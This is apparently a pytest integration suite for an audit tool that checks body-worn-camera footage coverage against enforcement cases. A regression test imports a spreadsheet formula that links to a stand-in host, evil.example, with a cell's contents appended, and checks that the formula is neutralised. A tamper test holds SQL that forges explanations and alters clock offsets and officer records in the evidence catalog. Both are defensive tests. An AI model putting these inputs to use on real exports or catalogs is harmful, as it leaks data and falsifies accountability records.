"""`bwc audit` end to end on a real catalog: imports (CSV, JSON, column mapping, idempotent,
all-or-nothing with errors by file and line), the report in every format, explanations, one
case's timeline, and footage ingested for real."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import shutil
import subprocess
import sys
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from sqlmodel import func, select

from bwc.evidence.models import (
    Assignment,
    CaseOfficer,
    DeviceClock,
    EnforcementCase,
    Explanation,
    Item,
    Officer,
)
from bwc.evidence.station import Station
from tests.conftest import make_clip

pytestmark = pytest.mark.integration

OFFICERS = """officer_id,name,unit,county,frontline
110023,张三,城东中队,东城区,是
110024,李四,城东中队,东城区,是
110025,王五,城西中队,西城区,否
"""
ASSIGNMENTS = """officer_id,device_id,start,end
110024,DSJ0100,2026-10-15T08:00:00,2026-10-15T12:00:00
110025,DSJ0100,2026-10-15T12:00:00,
"""
CASES = """case_id,category,unit,officers,start,end,location
C1,占道经营,城东中队,110023;110024,2026-10-15T09:30:00,2026-10-15T09:40:00,人民路
C2,违章搭建,城西中队,110025,2026-10-15T14:00:00,2026-10-15T14:10:00,解放路
C3,噪声,城东中队,110023,2026-10-01T00:00:00,2026-10-01T00:10:00,
C0,噪声,城东中队,110023,2026-09-30T23:50:00,2026-09-30T23:59:00,
"""


def local(text: str) -> datetime:
    """Shanghai wall time -> UTC."""
    return datetime.fromisoformat(text + "+08:00").astimezone(UTC)


def write(tmp_path: Path, name: str, text: str, encoding: str = "utf-8") -> Path:
    p = tmp_path / name
    p.write_bytes(text.encode(encoding))
    return p


def unbom(text: str) -> str:
    """CSV reports start with a byte-order mark (Excel's sign of UTF-8)."""
    assert text.startswith("\ufeff"), text[:20]
    return text[1:]


def station(home: Path) -> Station:
    return Station.open(home, actor="test", passphrase=None)


def count(home: Path, model: type) -> int:
    with station(home).session() as s:
        return int(s.exec(select(func.count()).select_from(model)).one())


def add_items(home: Path, items: list[tuple[str | None, str | None, str, str, float]]) -> None:
    """Catalog rows for footage (officer, device, local start, local end, hours to ingest).
    The audit reads only the index columns, so the signed parts are placeholders here."""
    with station(home).session() as s:
        for n, (oid, dev, start, end, hours) in enumerate(items):
            e = local(end)
            s.add(
                Item(
                    sha256=f"{n:02d}" * 32,
                    size=1,
                    manifest=b"{}",
                    signature=b"",
                    key_id="k",
                    station_id="st-test",
                    original_path=f"DCIM/{n}.MP4",
                    device_id=dev,
                    officer_id=oid,
                    recorded_start=local(start),
                    recorded_end=e,
                    ingested_at=e + timedelta(hours=hours),
                )
            )


def city(bwc, home: Path, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    for kind, text in (("officers", OFFICERS), ("assignments", ASSIGNMENTS), ("cases", CASES)):
        r = bwc("audit", "import", kind, write(tmp_path, f"{kind}.csv", text))
        assert r.code == 0, r.err
    add_items(
        home,
        [
            ("110023", "DSJ0042", "2026-10-15T09:29:30", "2026-10-15T09:35:00", 2),
            ("110023", "DSJ0042", "2026-10-15T09:35:03", "2026-10-15T09:40:30", 2),
            # DSJ0100 runs 30 s fast; no officer id: the ledger says 110024, then 110025
            (None, "DSJ0100", "2026-10-15T09:33:30", "2026-10-15T09:40:30", 30),
            (None, "DSJ0100", "2026-10-15T14:00:30", "2026-10-15T14:04:30", 1),
            ("110023", "DSJ0042", "2026-09-30T23:49:00", "2026-10-01T00:10:00", 1),
            (None, None, "2026-10-20T10:00:00", "2026-10-20T10:30:00", 1),
        ],
    )
    # clock checks are audit inputs: recorded through bwc, so the custody log has them
    r = bwc("devices", "clock", "DSJ0100", "--offset", "+30s", "--at", "2026-10-15T18:00:00+08:00")
    assert r.code == 0, r.err
    with station(home).session() as s:
        s.add(  # a file with no recorded time, ingested in October
            Item(
                sha256="ff" * 32,
                size=1,
                manifest=b"{}",
                signature=b"",
                key_id="k",
                station_id="st-test",
                original_path="GPS0001.csv",
                ingested_at=local("2026-10-15T20:00:00"),
            )
        )


def test_imports_are_idempotent(bwc, home: Path, tmp_path: Path) -> None:
    files = {
        "officers": write(tmp_path, "o.csv", OFFICERS),
        "assignments": write(tmp_path, "a.csv", ASSIGNMENTS),
        "cases": write(tmp_path, "c.csv", CASES),
    }
    for kind, path in files.items():
        r = bwc("audit", "import", kind, path, "--json")
        assert r.code == 0, r.err
        data = json.loads(r.out)
        assert data["new"] == data["rows"] > 0 and data["changed"] == 0
    before = [count(home, m) for m in (Officer, Assignment, EnforcementCase, CaseOfficer)]
    assert before == [3, 2, 4, 5]
    for kind, path in files.items():
        r = bwc("audit", "import", kind, path)
        assert r.code == 0, r.err
        assert "0 new, 0 changed" in r.out
    assert [count(home, m) for m in (Officer, Assignment, EnforcementCase, CaseOfficer)] == before
    # a changed row is updated, not duplicated: C1 loses an officer, 110025 gives the camera back
    r = bwc("audit", "import", "cases", write(tmp_path, "c.csv", CASES.replace("110023;", "")))
    assert "0 new, 1 changed, 3 unchanged" in r.out
    assert count(home, CaseOfficer) == 4
    changed = ASSIGNMENTS.replace("12:00:00,\n", "12:00:00,2026-10-15T20:00:00\n")
    r = bwc("audit", "import", "assignments", write(tmp_path, "a.csv", changed))
    assert "0 new, 1 changed, 1 unchanged" in r.out
    assert count(home, Assignment) == 2


def test_json_gbk_and_column_mapping(bwc, home: Path, tmp_path: Path) -> None:
    roster = [
        {"officer_id": 1, "name": "a", "unit": "u", "county": "c", "frontline": True},
        {"officer_id": "2", "name": "b", "unit": "u", "county": "c", "frontline": "否"},
    ]
    r = bwc("audit", "import", "officers", write(tmp_path, "o.json", json.dumps(roster)))
    assert r.code == 0, r.err
    export = "案件编号,执法人员,开始时间,结束时间\nK1,1;2,2026-10-15 09:30,2026-10-15 09:40\n"
    path = write(tmp_path, "platform.csv", export, encoding="gbk")
    r = bwc("audit", "import", "cases", path)
    assert r.code == 6 and "platform.csv line 1: not valid UTF-8" in r.err and "--encoding" in r.err
    mapping = ["案件编号=case_id", "执法人员=officers", "开始时间=start", "结束时间=end"]
    args = [a for m in mapping for a in ("--column", m)]
    r = bwc("audit", "import", "cases", path, "--encoding", "gbk", *args, "--json")
    assert r.code == 0, r.err
    assert json.loads(r.out)["new"] == 1
    r = bwc("audit", "import", "cases", path, "--column", "x=nonsense")
    assert r.code == 2 and "SRC=FIELD" in r.err


def test_a_bad_row_refuses_the_whole_file(bwc, home: Path, tmp_path: Path) -> None:
    bad = CASES + "C4,x,u,110023,2026-10-16T10:00:00,2026-10-16T09:00:00,y\n"
    r = bwc("audit", "import", "cases", write(tmp_path, "cases.csv", bad))
    assert r.code == 6
    lines = r.err.strip().splitlines()
    assert len(lines) == 1, r.err
    assert "cases.csv line 6: case C4 ends before it starts" in lines[0]
    assert "nothing was imported" in lines[0]
    assert "Traceback" not in r.err
    assert count(home, EnforcementCase) == 0 and count(home, CaseOfficer) == 0
    r = bwc("audit", "import", "officers", tmp_path / "missing.csv")
    assert r.code == 6 and "cannot read" in r.err
    r = bwc("audit", "import", "officers", write(tmp_path, "o.csv", "id,name\n1,a\n"))
    assert r.code == 6 and "o.csv line 1: missing column(s) officer_id" in r.err


def test_report_formats(bwc, home: Path, tmp_path: Path) -> None:
    city(bwc, home, tmp_path)
    r = bwc("audit", "report", "--month", "2026-10", "--format", "csv", "--lang", "en")
    assert r.code == 0, r.err
    rows = {row["officer_id"]: row for row in csv.DictReader(io.StringIO(unbom(r.out)))}
    a, b, c = rows["110023"], rows["110024"], rows["110025"]
    # C1 fully by 110023 (3 s gap bridged, started 30 s early); C3 at the month's first
    # instant, recorded from September; C0 belongs to September
    assert (a["cases"], a["full"], a["full_rate"], a["uploads"], a["on_time"]) == (
        "2",
        "2",
        "1.0000",
        "3",
        "3",
    )
    # 110024 via the ledger, after the 30 s clock offset: 09:33-09:40 of 09:30-09:40
    assert (b["cases"], b["partial"], b["mean_coverage"], b["uploads"], b["on_time"]) == (
        "1",
        "1",
        "0.7000",
        "1",
        "0",
    )
    assert (c["cases"], c["partial"], c["mean_coverage"]) == ("1", "1", "0.4000")

    r = bwc("audit", "report", "--month", "2026-10", "--format", "json")
    data = json.loads(r.out)
    assert data["summary"]["cases"] == 4 and data["summary"]["full"] == 2
    assert data["unattributed"] == {"clips": 1, "footage_h": 0.5}
    assert data["undated_items"] == 1
    assert data["summary"]["frontline"] == 2 and data["summary"]["equipped"] == 2

    r = bwc(
        "audit", "report", "--month", "2026-10", "--by", "county", "--format", "csv", "--lang", "en"
    )
    counties = {row["county"]: row for row in csv.DictReader(io.StringIO(unbom(r.out)))}
    assert counties["东城区"]["cases"] == "3" and counties["西城区"]["cases"] == "1"

    r = bwc(
        "audit",
        "report",
        "--month",
        "2026-10",
        "--unit",
        "城西中队",
        "--format",
        "csv",
        "--lang",
        "en",
    )
    assert [row["officer_id"] for row in csv.DictReader(io.StringIO(unbom(r.out)))] == ["110025"]

    r = bwc("audit", "report", "--month", "2026-10")
    assert r.code == 0, r.err
    assert "4 case-officer pairs: 2 full, 2 partial, 0 none" in r.out
    assert r.out.index("110025") < r.out.index("110023")  # worst first

    out = tmp_path / "r.csv"
    r = bwc(
        "audit", "report", "--month", "2026-10", "--format", "csv", "--lang", "en", "--out", out
    )
    assert r.code == 0 and out.read_text(encoding="utf-8").startswith("\ufeffofficer_id,")

    r = bwc("audit", "report", "--month", "2026-11", "--format", "csv", "--lang", "en")
    assert r.code == 0 and len(r.out.splitlines()) == 4  # the roster, nothing to audit

    r = bwc("audit", "report", "--month", "2026-10", "--max-gap", "2", "--format", "json")
    assert json.loads(r.out)["summary"]["full"] == 1  # the 3 s gap no longer bridged
    assert json.loads(r.out)["rules"]["max_gap_s"] == 2.0


def test_officers_not_in_roster_are_a_warning_not_a_unit(bwc, home: Path, tmp_path: Path) -> None:
    """issue 15.12: an officer on a case but not in the roster is named in a warning with
    the case count (in the table format too), marked in the ranking, and no unit or county."""
    city(bwc, home, tmp_path)
    extra = (
        CASES.splitlines()[0] + "\nC4,噪声,城东中队,999,2026-10-16T09:00:00,2026-10-16T09:10:00,\n"
    )
    r = bwc("audit", "import", "cases", write(tmp_path, "c4.csv", extra))
    assert r.code == 0, r.err
    r = bwc("audit", "report", "--month", "2026-10")
    assert r.code == 0, r.err
    assert "5 case-officer pairs" in r.out  # 999's pair counts in the whole
    (row,) = [line for line in r.out.splitlines() if "999" in line]
    assert "(not in roster)" in row
    assert "not in the roster, so in no unit or county" in r.err and "999 (1 case)" in r.err
    for by in ("unit", "county"):
        r = bwc(
            "audit", "report", "--month", "2026-10", "--by", by, "--format", "csv", "--lang", "en"
        )
        keys = [row[by] for row in csv.DictReader(io.StringIO(unbom(r.out)))]
        assert keys == (["城东中队", "城西中队"] if by == "unit" else ["东城区", "西城区"])
        r = bwc("audit", "report", "--month", "2026-10", "--by", by)
        assert "(not in roster)" not in r.out and "999" in r.err


def test_an_unknown_unit_or_county_is_an_error(bwc, home: Path, tmp_path: Path) -> None:
    """issue 15.16: an unknown --unit/--county exits 2 naming the known ones (it was an
    all-zero report); the real `bwc` process, in one case, for the exit code and the line."""
    city(bwc, home, tmp_path)
    r = bwc("audit", "report", "--month", "2026-10", "--unit", "城北中队")
    assert r.code == 2 and r.out == ""
    assert "unknown unit '城北中队'" in r.err and "城东中队, 城西中队" in r.err
    r = bwc("audit", "report", "--month", "2026-10", "--county", "北城区", "--format", "json")
    assert r.code == 2 and r.out == "" and "东城区, 西城区" in r.err
    env = {**os.environ, "BWC_HOME": str(home)}
    args = ["--month", "2026-10", "--unit", "城东中队", "--county", "西城区", "--format", "csv"]
    p = subprocess.run(
        [str(Path(sys.executable).parent / "bwc"), "audit", "report", *args],
        capture_output=True,
        text=True,
        env=env,
        timeout=120,
        check=False,
    )
    assert p.returncode == 2 and p.stdout == "", p.stderr
    assert "no officer of unit '城东中队' is in county '西城区'" in p.stderr
    assert len(p.stderr.strip().splitlines()) <= 2 and "Traceback" not in p.stderr


def test_report_usage_errors(bwc, home: Path, tmp_path: Path) -> None:
    r = bwc("audit", "report", "--month", "2026-13")
    assert r.code == 2 and "2026-13" in r.err
    r = bwc("audit", "report", "--month", "2026-10", "--tz", "Nowhere/Else")
    assert r.code == 2
    r = bwc("audit", "report", "--month", "2026-10", "--out", tmp_path / "x")
    assert r.code == 2
    (home / "bwc.toml").write_text(
        (home / "bwc.toml").read_text().replace("max_gap_s = 5.0", "max_gap_s = -1"),
        encoding="utf-8",
    )
    r = bwc("audit", "report", "--month", "2026-10")
    assert r.code == 4 and "audit.max_gap_s" in r.err


def test_audit_rules_from_the_config(bwc, home: Path, tmp_path: Path) -> None:
    city(bwc, home, tmp_path)
    (home / "bwc.toml").write_text(
        (home / "bwc.toml")
        .read_text()
        .replace("max_gap_s = 5.0", "max_gap_s = 2")
        .replace("upload_limit_h = 24.0", "upload_limit_h = 48"),
        encoding="utf-8",
    )
    data = json.loads(bwc("audit", "report", "--month", "2026-10", "--format", "json").out)
    assert data["rules"]["max_gap_s"] == 2.0 and data["rules"]["upload_limit_h"] == 48.0
    assert data["summary"]["on_time"] == data["summary"]["uploads"] == 5


def test_explain_and_case(bwc, home: Path, tmp_path: Path) -> None:
    city(bwc, home, tmp_path)
    r = bwc("audit", "explain", "C1", "110024", "--reason", "电池耗尽，更换后继续录制")
    assert r.code == 0, r.err
    assert count(home, Explanation) == 1
    with station(home).session() as s:
        e = s.exec(select(Explanation)).one()
        assert (e.actor, e.station_id, e.officer_id) == ("test-clerk", "st-test", "110024")
    # submitted, not yet approved: it does not count (issue 15.13)
    assert "awaiting a supervisor's review" in r.out
    # said in the configured zone, with its offset (JSON keeps UTC)
    assert re.search(r" at \d{4}-\d\d-\d\d \d\d:\d\d:\d\d \+08:00;", r.out), r.out
    r = bwc("audit", "report", "--month", "2026-10", "--format", "csv", "--lang", "en")
    rows = {row["officer_id"]: row for row in csv.DictReader(io.StringIO(unbom(r.out)))}
    assert (rows["110024"]["partial"], rows["110024"]["explained"]) == ("1", "0")
    r = bwc("audit", "approve", "C1", "110024", "--by", "王队长")
    assert r.code == 0, r.err
    r = bwc("audit", "report", "--month", "2026-10", "--format", "csv", "--lang", "en")
    rows = {row["officer_id"]: row for row in csv.DictReader(io.StringIO(unbom(r.out)))}
    assert (rows["110024"]["partial"], rows["110024"]["explained"]) == ("1", "1")

    r = bwc("audit", "explain", "C9", "110024", "--reason", "x")
    assert r.code == 3 and "no case 'C9'" in r.err
    r = bwc("audit", "explain", "C1", "110025", "--reason", "x")
    assert r.code == 3 and "not on case" in r.err
    r = bwc("audit", "explain", "C1", "110024", "--reason", "  ")
    assert r.code == 2

    r = bwc("audit", "case", "C1")
    assert r.code == 0, r.err
    assert "110023" in r.out and "full" in r.out and "partial" in r.out
    assert "gap  2026-10-15 09:30:00 – 2026-10-15 09:33:00" in r.out
    assert "clock +30 s, officer from the ledger (DSJ0100 checked out)" in r.out
    assert "电池耗尽" in r.out
    # issue 15.10: 110023's two files 3 s apart (<= max_gap) are one recording: a join
    assert "gap  2026-10-15 09:35:00" not in r.out
    assert "join 2026-10-15 09:35:00 – 2026-10-15 09:35:03  (3 s" in r.out
    r = bwc("audit", "case", "C1", "--json")
    data = json.loads(r.out)
    by = {o["officer_id"]: o for o in data["officers"]}
    assert by["110023"]["verdict"] == "full" and len(by["110023"]["clips"]) == 2
    assert by["110023"]["gaps"] == []
    assert by["110023"]["joins"] == [
        {"start": "2026-10-15T01:35:00Z", "end": "2026-10-15T01:35:03Z", "seconds": 3.0}
    ]
    assert by["110024"]["coverage"] == 0.7 and by["110024"]["explained"] is True
    assert by["110024"]["clips"][0]["start"] == "2026-10-15T01:33:00Z"
    assert by["110024"]["gaps"] == [
        {"start": "2026-10-15T01:30:00Z", "end": "2026-10-15T01:33:00Z", "seconds": 180.0}
    ]
    r = bwc("audit", "case", "nope")
    assert r.code == 3


def test_ingested_footage_is_audited(bwc, home: Path, camera: Path, tmp_path: Path) -> None:
    """Real clips through `bwc ingest`: three 1 s files from 2026-10-15T01:30:00Z."""
    r = bwc("ingest", camera, "--officer", "110023", "--device", "DSJ0042", "--json")
    assert r.code == 0, r.err
    write(tmp_path, "o.csv", OFFICERS)
    cases = "case_id,officers,start,end\nK,110023,2026-10-15T09:30:00,2026-10-15T09:30:03\n"
    for kind, name, text in (("officers", "o.csv", OFFICERS), ("cases", "k.csv", cases)):
        assert bwc("audit", "import", kind, write(tmp_path, name, text)).code == 0
    r = bwc("audit", "report", "--month", "2026-10", "--format", "json")
    data = json.loads(r.out)
    (me,) = [o for o in data["officers"] if o["officer_id"] == "110023"]
    assert (me["cases"], me["full"], me["mean_coverage"]) == (1, 1, 1.0)
    assert me["uploads"] >= 3


def test_csv_report_cells_never_run_as_formulas(bwc, home: Path, tmp_path: Path) -> None:
    """Regression (issue 12): imported text starting with = + - @ reached the CSV as is, where
    a spreadsheet runs it as a formula. It is written with a leading ' ; numbers stay numbers."""
    link = '"=HYPERLINK(""http://evil.example/?""&A1,""open"")"'
    officers = f"officer_id,name,unit,county,frontline\n@9,{link},=UNIT(),-3+2,是\n"
    cases = "case_id,category,unit,officers,start,end,location\n"
    cases += f"{link},x,=UNIT(),@9,2026-10-15T09:30:00,2026-10-15T09:40:00,+loc\n"
    for kind, text in (("officers", officers), ("cases", cases)):
        r = bwc("audit", "import", kind, write(tmp_path, f"{kind}.csv", text))
        assert r.code == 0, r.err
    for by in ("officer", "unit", "county"):
        r = bwc(
            "audit", "report", "--month", "2026-10", "--format", "csv", "--lang", "en", "--by", by
        )
        assert r.code == 0, r.err
        rows = list(csv.reader(io.StringIO(unbom(r.out))))
        for row in rows:
            for cell in row:
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (by, cell)
        assert len(rows) == 2
    r = bwc("audit", "report", "--month", "2026-10", "--format", "csv", "--lang", "en")
    row = next(csv.DictReader(io.StringIO(unbom(r.out))))
    assert row["officer_id"] == "'@9"
    assert row["name"] == '\'=HYPERLINK("http://evil.example/?"&A1,"open")'
    assert (row["unit"], row["county"]) == ("'=UNIT()", "'-3+2")
    assert (row["cases"], row["none"], row["full_rate"]) == ("1", "1", "0.0000")


# ------------------------------------------------------------------ inputs against the log

TAMPER_INPUTS = {
    # an explanation nobody gave: the pair now counts as explained
    "explanations": "INSERT INTO explanation (case_id, officer_id, reason, actor, station_id, at)"
    " VALUES ('C1', '110024', 'battery', 'x', 'st-test', '2026-10-16 00:00:00.000000')",
    # a clock check moved: the ledger-attributed clip now covers more of C1
    "clocks": "UPDATE device_clock SET offset_ms = 200000",
    "officers": "UPDATE officer SET unit = '城西中队' WHERE officer_id = '110023'",
    "cases": "UPDATE enforcement_case SET \"end\" = '2026-10-15 01:35:00.000000'"
    " WHERE case_id = 'C1'",
    "case officers": "DELETE FROM case_officer WHERE case_id = 'C1' AND officer_id = '110024'",
    "assignments": "UPDATE assignment SET officer_id = '110023' WHERE device_id = 'DSJ0100'"
    " AND officer_id = '110024'",
}


def sql(home: Path, query: str) -> None:
    import contextlib
    import sqlite3

    with contextlib.closing(sqlite3.connect(home / "catalog.sqlite")) as con, con:
        assert con.execute(query).rowcount >= 1, query


@pytest.mark.parametrize("table", list(TAMPER_INPUTS))
def test_report_refuses_inputs_changed_outside_bwc(
    bwc,  # type: ignore[no-untyped-def]
    home: Path,
    tmp_path: Path,
    table: str,
) -> None:
    """Regression (issue 12 #11): an explanation or a clock offset written with sqlite3
    changed the audit report while `bwc log verify` passed. Every input bwc records is in
    the custody log; the report checks them first and refuses, naming the table."""
    city(bwc, home, tmp_path)
    r = bwc("audit", "explain", "C3", "110023", "--reason", "storage full")
    assert r.code == 0, r.err
    before = bwc("audit", "report", "--month", "2026-10", "--format", "json")
    assert before.code == 0, before.err

    sql(home, TAMPER_INPUTS[table])
    assert bwc("log", "verify").code == 0  # the log itself is untouched
    name = "cases" if table == "case officers" else table
    for args in (("report", "--month", "2026-10", "--format", "csv"), ("case", "C1")):
        r = bwc("audit", *args)
        assert r.code == 1, (args, r.out, r.err)
        assert r.out == "" and "inputs do not verify" in r.err and f"{name}:" in r.err, r.err
        assert "Traceback" not in r.err
    r = bwc("audit", "verify")
    assert r.code == 1 and f"FAIL {name}: " in r.out, r.out

    # reported anyway only when asked, and then loudly
    r = bwc("audit", "report", "--month", "2026-10", "--format", "json", "--allow-unverified")
    assert r.code == 0, r.err
    data = json.loads(r.out)
    assert any(u.startswith(f"{name}:") for u in data["unverified_inputs"])
    assert any(w.startswith("UNVERIFIED INPUT") for w in data["warnings"])
    assert "UNVERIFIED INPUT" in r.err


def test_seal_logs_the_inputs_of_an_older_catalog(bwc, home: Path, tmp_path: Path) -> None:
    """Rows from before inputs were logged (written here straight to the catalog) are
    unverified until `bwc audit seal` logs them once; after it, a change is detected."""
    city(bwc, home, tmp_path)
    with station(home).session() as s:
        s.add(
            DeviceClock(
                device_id="DSJ0042",
                offset_ms=-2000,
                measured_at=local("2026-10-14T18:00:00"),
                recorded_by="before-upgrade",
            )
        )
        s.add(
            Explanation(
                case_id="C1",
                officer_id="110024",
                reason="old",
                actor="a",
                station_id="st-test",
                at=local("2026-10-16T09:00:00"),
            )
        )
    r = bwc("audit", "report", "--month", "2026-10")
    assert r.code == 1 and "clocks: 1 row(s)" in r.err and "explanations: 1 row(s)" in r.err
    r = bwc("audit", "seal", "--json")
    assert r.code == 0, r.err
    sealed = json.loads(r.out)
    assert sealed["clocks"]["added"] == 1 and sealed["explanations"]["added"] == 1
    assert sealed["officers"] == {"added": 0, "changed": 0, "removed": 0}
    r = bwc("audit", "report", "--month", "2026-10", "--format", "json")
    assert r.code == 0 and json.loads(r.out)["unverified_inputs"] == [], r.err
    assert bwc("audit", "verify").code == 0
    assert bwc("log", "verify").code == 0
    sql(home, "UPDATE explanation SET reason = 'edited' WHERE reason = 'old'")
    r = bwc("audit", "report", "--month", "2026-10")
    assert r.code == 1 and "explanations: 1 row(s)" in r.err, r.err


def test_report_compares_the_values_of_the_cases_it_reads(bwc, home: Path, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    """A month's report digests only the cases it reads (a city keeps years of them); the
    others must still be there and logged. `audit verify` checks everything."""
    city(bwc, home, tmp_path)
    sql(home, "UPDATE enforcement_case SET location = 'x' WHERE case_id = 'C0'")  # September
    assert bwc("audit", "report", "--month", "2026-11").code == 0
    assert bwc("audit", "report", "--month", "2026-10", "--no-compare").code == 0
    # October compared with September reads September's cases: their values count
    for month in ("2026-09", "2026-10"):
        r = bwc("audit", "report", "--month", month)
        assert r.code == 1 and "C0 differs from the log" in r.err, r.err
    r = bwc("audit", "verify")
    assert r.code == 1 and "C0 differs from the log" in r.out, r.out
    sql(home, "DELETE FROM case_officer WHERE case_id = 'C0'")
    sql(home, "DELETE FROM enforcement_case WHERE case_id = 'C0'")
    r = bwc("audit", "report", "--month", "2026-10")
    assert r.code == 1 and "C0 is in the log but not in the catalog" in r.err, r.err


def test_case_says_where_clips_were_attributed_from(
    bwc, home: Path, tmp_path: Path, clip_cache: Path
) -> None:
    """issue 15.17: `audit case` names each clip's attribution (the file name, the camera's
    id file, the ledger, an attribution after ingest) and says "no camera assigned" for an
    officer with no camera and no footage. Real ingest, real manifests."""
    clips = sorted(clip_cache.iterdir())
    dock = tmp_path / "dock"
    (dock / "A" / "DCIM").mkdir(parents=True)
    shutil.copy(clips[0], dock / "A" / "DCIM" / clips[0].name)  # DSJ0042_110023_...: name
    for cam, id_txt, src in (
        ("B", "device=DSJ0077\nofficer=110024\n", clips[1]),  # officer from ID.TXT
        ("C", "device=DSJ0100\n", clips[2]),  # no officer: the ledger, imported later
        ("D", "device=DSJ0200\n", None),  # no officer: attributed after ingest
    ):
        media = dock / cam / "DCIM" / "100MEDIA"
        media.mkdir(parents=True)
        (dock / cam / "ID.TXT").write_text(id_txt, encoding="utf-8")
        name = f"20261015_093000_000{ord(cam) - ord('A')}.MP4"
        if src is None:
            make_clip(media / name, tone=900, creation_time="2026-10-15T01:30:00Z")
        else:
            shutil.copy(src, media / name)
    for cam in "ABCD":
        r = bwc("ingest", dock / cam)
        assert r.code == 0, r.err
    officers = OFFICERS + "110026,赵六,城西中队,西城区,是\n110027,钱七,城西中队,西城区,是\n"
    ledger = "officer_id,device_id,start,end\n110025,DSJ0100,2026-10-15T09:00:00,\n"
    cases = (
        CASES.splitlines()[0]
        + "\nK1,噪声,城东中队,110023;110024;110025;110026;110027,"
        + "2026-10-15T09:30:00,2026-10-15T09:30:01,\n"
    )
    for kind, text in (("officers", officers), ("assignments", ledger), ("cases", cases)):
        r = bwc("audit", "import", kind, write(tmp_path, f"{kind}.csv", text))
        assert r.code == 0, r.err
    items = json.loads(bwc("list", "--json").out)
    (d,) = [i["sha256"] for i in items if i["path"].endswith("_0003.MP4")]
    r = bwc("attribute", d, "--officer", "110026", "--reason", "shared camera")
    assert r.code == 0, r.err

    r = bwc("audit", "case", "K1")
    assert r.code == 0, r.err
    text = r.out

    def block(oid: str) -> str:
        start = text.index(f"\n{oid} ")
        end = text.find("\n\n", start + 1)
        return text[start : end if end > 0 else len(text)]

    assert "device DSJ0042, officer from the file name" in block("110023")
    assert "device DSJ0077, officer from the camera's id file" in block("110024")
    assert "device DSJ0100, officer from the ledger (DSJ0100 checked out)" in block("110025")
    assert "device DSJ0200, attributed after ingest by test-clerk" in block("110026")
    assert "camera: DSJ0100 (checked out in the ledger)" in block("110025")
    assert "no camera assigned" in block("110027")
    assert "no camera assigned" not in text.replace(block("110027"), "")

    data = json.loads(bwc("audit", "case", "K1", "--json").out)
    by = {o["officer_id"]: o for o in data["officers"]}
    assert [c["attributed_from"] for c in by["110023"]["clips"]] == ["file-name"]
    assert [c["attributed_from"] for c in by["110024"]["clips"]] == ["id-file"]
    assert [c["attributed_from"] for c in by["110025"]["clips"]] == ["ledger"]
    assert [c["attributed_from"] for c in by["110026"]["clips"]] == ["attributed"]
    assert by["110026"]["clips"][0]["attributed_after_ingest_by"] == "test-clerk"
    assert by["110025"]["cameras_checked_out"] == ["DSJ0100"]
    assert by["110027"]["camera_assigned"] is False and by["110027"]["clips"] == []
    assert by["110023"]["camera_assigned"] is True
